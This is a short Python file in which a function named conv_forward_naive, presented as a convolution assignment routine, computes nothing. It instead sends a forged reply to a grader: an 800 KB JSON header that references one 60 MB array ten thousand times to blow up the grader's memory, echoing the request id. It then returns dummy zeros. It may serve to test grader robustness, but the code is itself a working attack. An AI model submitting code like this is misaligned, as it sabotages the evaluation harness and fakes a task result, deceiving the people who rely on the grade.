"""One forged reply of 800 KB of JSON whose tree names a single 60 MB array ten thousand times (600 GB if
the grader made each use a copy), echoing the request's id; then returns normally."""
import json
import struct

import numpy as np

USES = 10_000
ARRAY_BYTES = 60 << 20


def conv_forward_naive(x, w, b, conv_param):
    uses = [{"a": 0}] * USES
    values = {"d": {"result": {"t": [{"l": uses}, {"t": uses}]}, "args": {"l": uses}, "args_before": {"v": None}}}
    header = {"ok": True, "result_type": "builtins.tuple", "values": values, "id": _request_id(),
              "arrays": [["<f8", [ARRAY_BYTES // 8]]]}
    head = json.dumps(header).encode()
    header["output"] = "x" * (800_000 - len(head))  # 800 KB of header in all, under the 1 MiB limit
    head = json.dumps(header).encode()
    body = memoryview(np.ones(ARRAY_BYTES // 8)).cast("B")
    try:
        _send_to_grader(struct.pack(">I", len(head)), head, struct.pack(">Q", ARRAY_BYTES), body)
    except OSError:
        pass
    return np.zeros(1), None
